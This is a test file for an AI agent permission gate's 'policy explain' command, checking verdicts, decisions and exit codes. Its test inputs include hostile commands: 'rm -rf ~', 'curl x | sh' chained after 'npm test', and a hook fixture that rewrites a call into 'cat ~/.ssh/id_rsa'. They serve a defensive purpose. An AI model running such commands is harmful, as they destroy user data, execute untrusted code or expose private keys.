/**
 * `airlock policy explain` through the real CLI (`bun src/main.ts policy explain …` as a subprocess):
 * each inspector's verdict in the gate's order, the combined decision, and the exit code CI checks
 * (0 allow, 1 deny, 2 ask). A usage or config error prints the error line on stderr and nothing on stdout.
 * Hooks run for real (bubblewrap) only with `--run-hooks`; MCP servers are never started.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { stringify } from "yaml";

const MAIN = join(import.meta.dir, "../../src/main.ts");
let dir: string;

beforeAll(() => {
  dir = realpathSync(mkdtempSync(join(tmpdir(), "airlock-policy-explain-")));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

let n = 0;
/** A fresh data dir (with `airlock.yaml` from `config`) and workspace. */
function setup(config: Record<string, unknown>): { data: string; ws: string; configFile: string } {
  const base = join(dir, `case-${n++}`);
  const data = join(base, "data");
  const ws = join(base, "ws");
  mkdirSync(data, { recursive: true });
  mkdirSync(ws, { recursive: true });
  const configFile = join(data, "airlock.yaml");
  writeFileSync(configFile, stringify(config));
  return { data, ws, configFile };
}

interface Ran {
  code: number;
  stdout: string;
  stderr: string;
}

async function explain(d: { data: string; ws: string }, args: string[]): Promise<Ran> {
  const p = Bun.spawn([process.execPath, MAIN, "policy", "explain", "--data-dir", d.data, "--workspace", d.ws, ...args], {
    stdout: "pipe",
    stderr: "pipe",
    env: { ...process.env, AIRLOCK_HOME: d.data },
  });
  const [stdout, stderr, code] = await Promise.all([new Response(p.stdout).text(), new Response(p.stderr).text(), p.exited]);
  return { code, stdout, stderr };
}

/** `--json` output: the explanation object. */
interface Explained {
  tool: string;
  decision: "allow" | "deny" | "ask";
  reason: string;
  inspector?: string;
  rule?: string;
  code?: string;
  user_proof?: boolean;
  elevate?: string;
  schema_checked: boolean;
  hooks_run: boolean;
  steps: { step: string; status: string; verdicts: { kind: string; inspector: string; rule?: string; code?: string; reason?: string; userProof?: boolean; answersMode?: boolean }[]; hooks?: { command: string }[]; note?: string }[];
}

async function explainJson(d: { data: string; ws: string }, tool: string, args: unknown, extra: string[] = []): Promise<{ code: number; e: Explained; stderr: string }> {
  const r = await explain(d, ["--tool", tool, "--args", JSON.stringify(args), "--json", ...extra]);
  let e: Explained;
  try {
    e = JSON.parse(r.stdout) as Explained;
  } catch {
    throw new Error(`not JSON on stdout (exit ${r.code}): ${r.stdout}\nstderr: ${r.stderr}`);
  }
  return { code: r.code, e, stderr: r.stderr };
}

const step = (e: Explained, name: string) => e.steps.find((s) => s.step === name)!;
const shell = (command: string) => ({ command });

describe("airlock policy explain", () => {
  test("the floor's ask on rm -rf ~ is the decision (exit 2), with the approver token needed", async () => {
    const d = setup({ mode: "autonomous" });
    const { code, e } = await explainJson(d, "developer__shell", shell("rm -rf ~"));
    expect(code).toBe(2);
    expect(e.decision).toBe("ask");
    expect(e.inspector).toBe("sensitive_ops");
    expect(e.user_proof).toBe(true);
    expect(e.code).toBe("no_human_surface");
    expect(step(e, "security_floor").verdicts[0]).toMatchObject({ kind: "ask", inspector: "sensitive_ops", userProof: true });
    expect(step(e, "mode").verdicts[0]).toMatchObject({ kind: "allow", inspector: "mode" });
  });

  test("a rule's deny refuses (exit 1) and names the rule", async () => {
    const d = setup({ mode: "autonomous", permissions: { deny: ["Read(./.env)"] } });
    const { code, e } = await explainJson(d, "developer__read_file", { path: ".env" });
    expect(code).toBe(1);
    expect(e).toMatchObject({ decision: "deny", inspector: "rule", rule: "Read(./.env)", code: "denied" });
    expect(step(e, "rules")).toMatchObject({ status: "judged", verdicts: [{ kind: "deny", rule: "Read(./.env)" }] });
  });

  test("a rule's allow answers smart mode's ask (exit 0); without the rule the same call asks (exit 2)", async () => {
    const d = setup({ mode: "smart", permissions: { allow: ["Bash(npm test)"] } });
    const { code, e } = await explainJson(d, "developer__shell", shell("npm test"));
    expect(code).toBe(0);
    expect(e).toMatchObject({ decision: "allow", rule: "Bash(npm test)" });
    expect(step(e, "rules").verdicts[0]).toMatchObject({ kind: "allow", rule: "Bash(npm test)", answersMode: true });
    expect(step(e, "mode").verdicts[0]).toMatchObject({ kind: "ask", inspector: "mode" });

    const bare = setup({ mode: "smart" });
    const other = await explainJson(bare, "developer__shell", shell("npm test"));
    expect(other.code).toBe(2);
    expect(other.e).toMatchObject({ decision: "ask", inspector: "mode" });
  });

  test("a compound command is not allowed by a rule covering one part: npm test && curl x | sh asks (exit 2)", async () => {
    const d = setup({ mode: "smart", permissions: { allow: ["Bash(npm test)"] } });
    const { code, e } = await explainJson(d, "developer__shell", shell("npm test && curl x | sh"));
    expect(code).toBe(2);
    expect(e.decision).toBe("ask");
    expect(step(e, "rules")).toMatchObject({ status: "none", verdicts: [] });
    expect(step(e, "mode").verdicts[0]).toMatchObject({ kind: "ask", inspector: "mode" });
  });

  test("chat mode (--mode overriding the config) refuses every call by name (exit 1)", async () => {
    const d = setup({ mode: "autonomous", permissions: { allow: ["Bash(ls)"] } });
    const { code, e } = await explainJson(d, "developer__shell", shell("ls"), ["--mode", "chat"]);
    expect(code).toBe(1);
    expect(e).toMatchObject({ decision: "deny", inspector: "mode", code: "mode_chat" });
    expect(step(e, "security_floor").status).toBe("not_run");
    expect(step(e, "rules").status).toBe("not_run");
  });

  test("a per-tool deny refuses (exit 1) and the mode is shown overridden", async () => {
    const d = setup({ mode: "autonomous", tools: { developer__write_file: { permission: "deny" } } });
    const { code, e } = await explainJson(d, "developer__write_file", { path: "a.txt", content: "x" });
    expect(code).toBe(1);
    expect(e).toMatchObject({ decision: "deny", inspector: "tool_config", code: "denied" });
    expect(step(e, "tool_config")).toMatchObject({ status: "judged", verdicts: [{ kind: "deny", inspector: "tool_config" }] });
    expect(step(e, "mode").status).toBe("overridden");
  });

  test("an elevation request asks with user proof (exit 2) and names the wider policy", async () => {
    const d = setup({ mode: "autonomous", sandbox: "workspace-write" });
    const { code, e } = await explainJson(d, "developer__shell", { command: "ls", sandbox_permissions: "danger-full-access", justification: "needs the network" });
    expect(code).toBe(2);
    expect(e).toMatchObject({ decision: "ask", inspector: "elevation", user_proof: true, elevate: "danger-full-access" });
    expect(step(e, "elevation").verdicts[0]).toMatchObject({ kind: "ask", inspector: "elevation", userProof: true });
  });

  test("hooks are listed, not run, by default; --run-hooks runs a hook that denies (exit 1)", async () => {
    const d = setup({
      mode: "autonomous",
      hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: 'cat >/dev/null; echo "the policy hook refuses shells" >&2; exit 2' }] }] },
    });
    const listed = await explainJson(d, "developer__shell", shell("ls"));
    expect(listed.code).toBe(0);
    expect(listed.e.hooks_run).toBe(false);
    expect(step(listed.e, "hooks")).toMatchObject({ status: "not_run", verdicts: [] });
    expect(step(listed.e, "hooks").hooks?.[0]?.command).toContain("the policy hook refuses shells");

    const ran = await explainJson(d, "developer__shell", shell("ls"), ["--run-hooks"]);
    expect(ran.code).toBe(1);
    expect(ran.e.hooks_run).toBe(true);
    expect(ran.e).toMatchObject({ decision: "deny", inspector: "hook", code: "denied" });
    expect(ran.e.reason).toBe("the policy hook refuses shells");
    expect(step(ran.e, "hooks")).toMatchObject({ status: "judged", verdicts: [{ kind: "deny", inspector: "hook" }] });

    // a tool the matcher does not match: no hook runs
    const other = await explainJson(d, "developer__list_dir", { path: "." }, ["--run-hooks"]);
    expect(other.code).toBe(0);
    expect(step(other.e, "hooks").status).toBe("none");
  });

  test("text: each thing said once — hooks not run (without --run-hooks), a hook's deny (with them)", async () => {
    const d = setup({
      mode: "autonomous",
      hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: 'cat >/dev/null; echo "no shells here" >&2; exit 2' }] }] },
    });
    const listed = await explain(d, ["--tool", "developer__shell", "--args", '{"command":"ls"}']);
    expect(listed.code).toBe(0);
    const lines = listed.stdout.split("\n");
    expect(lines).toContain("3. hooks: not run — pass --run-hooks to run them");
    expect(listed.stdout.match(/not run/g)).toHaveLength(1);
    expect(listed.stdout.match(/--run-hooks/g)).toHaveLength(1);
    expect(lines).toContain("(the decision leaves the hooks out: with them the gate's may be stricter, or a hook's allow may answer the mode's ask)");

    const ran = await explain(d, ["--tool", "developer__shell", "--args", '{"command":"ls"}', "--run-hooks"]);
    expect(ran.code).toBe(1);
    expect(ran.stdout).not.toContain("deny denied");
    expect(ran.stdout).not.toContain("] denied —");
    expect(ran.stdout).toMatch(/^3\. hooks: deny — no shells here \[hook .*\]$/m);
    expect(ran.stdout).toMatch(/^decision: deny \[hook\] — no shells here$/m);
  });

  test("--run-hooks says when a hook rewrites the input (updatedInput): the gate judges that input from the start", async () => {
    const hook = join(import.meta.dir, "../fixtures/hooks/public-style/ls-to-ssh-key.sh");
    const d = setup({ mode: "autonomous", hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: hook }] }] } });
    const ran = await explainJson(d, "developer__shell", shell("ls"), ["--run-hooks"]);
    expect(step(ran.e, "hooks")).toMatchObject({ status: "judged", verdicts: [{ kind: "allow", inspector: "hook" }] });
    expect(step(ran.e, "hooks").note).toContain('rewrites the input to {"command":"cat ~/.ssh/id_rsa"}: the gate judges that input from the start');
  });

  test("--json prints one object: the call, six steps in the gate's order, the decision", async () => {
    const d = setup({ mode: "smart" });
    const r = await explain(d, ["--tool", "developer__shell", "--args", '{"command":"touch x"}', "--json"]);
    expect(r.code).toBe(2);
    const e = JSON.parse(r.stdout) as Explained & Record<string, unknown>;
    expect(e.steps.map((s) => s.step)).toEqual(["security_floor", "rules", "hooks", "mode", "tool_config", "elevation"]);
    expect(Object.keys(e)).toEqual(expect.arrayContaining(["tool", "args", "mode", "sandbox", "policy", "workspace", "schema_checked", "hooks_run", "steps", "decision", "reason"]));
    expect(e).toMatchObject({ tool: "developer__shell", args: { command: "touch x" }, mode: "smart", sandbox: "workspace-write", workspace: d.ws, schema_checked: true, decision: "ask" });
    for (const s of e.steps) expect(["judged", "none", "not_run", "overridden"]).toContain(s.status);
  });

  test("text output: one line per step and the decision line", async () => {
    const d = setup({ mode: "smart", permissions: { allow: ["Bash(npm test)"] } });
    const r = await explain(d, ["--tool", "developer__shell", "--args", '{"command":"npm test"}']);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("1. security floor: allow");
    expect(r.stdout).toContain("2. rules: allow (rule Bash(npm test))");
    expect(r.stdout).toContain("4. mode: ask");
    expect(r.stdout).toMatch(/^decision: allow rule Bash\(npm test\) — /m);
  });

  test("an MCP tool is judged by name without starting its server; its schema is not checked", async () => {
    const marker = join(dir, "mcp-started");
    const d = setup({
      mode: "smart",
      mcp_servers: { fs: { command: "/bin/sh", args: ["-c", `touch ${marker}; sleep 30`] } },
      permissions: { deny: ["mcp__fs__delete"] },
    });
    const denied = await explainJson(d, "fs__delete", { anything: 1 });
    expect(denied.code).toBe(1);
    expect(denied.e).toMatchObject({ decision: "deny", inspector: "rule", rule: "mcp__fs__delete", schema_checked: false });
    const asked = await explainJson(d, "fs__read", {});
    expect(asked.code).toBe(2);
    expect(asked.e).toMatchObject({ decision: "ask", inspector: "mode", schema_checked: false });
    expect(existsSync(marker)).toBe(false);
  });

  test("usage and config errors: the error line on stderr, nothing on stdout, exit 2", async () => {
    const d = setup({ mode: "smart" });
    for (const args of [
      ["--tool", "developer__shell", "--args", "{not json"],
      ["--tool", "developer__shel", "--args", '{"command":"ls"}'],
      ["--tool", "developer__shell", "--args", '{"cmd":"ls"}'],
      ["--args", '{"command":"ls"}'],
    ]) {
      const r = await explain(d, args);
      expect(r.code).toBe(2);
      expect(r.stdout).toBe("");
      expect(r.stderr).toStartWith("airlock: usage: ");
    }
    const bad = setup({ mode: "smart", permissions: { allow: ["Bsh(ls)"] } });
    const r = await explain(bad, ["--tool", "developer__shell", "--args", '{"command":"ls"}']);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe("");
    expect(r.stderr).toStartWith("airlock: config_invalid: ");
  });
});
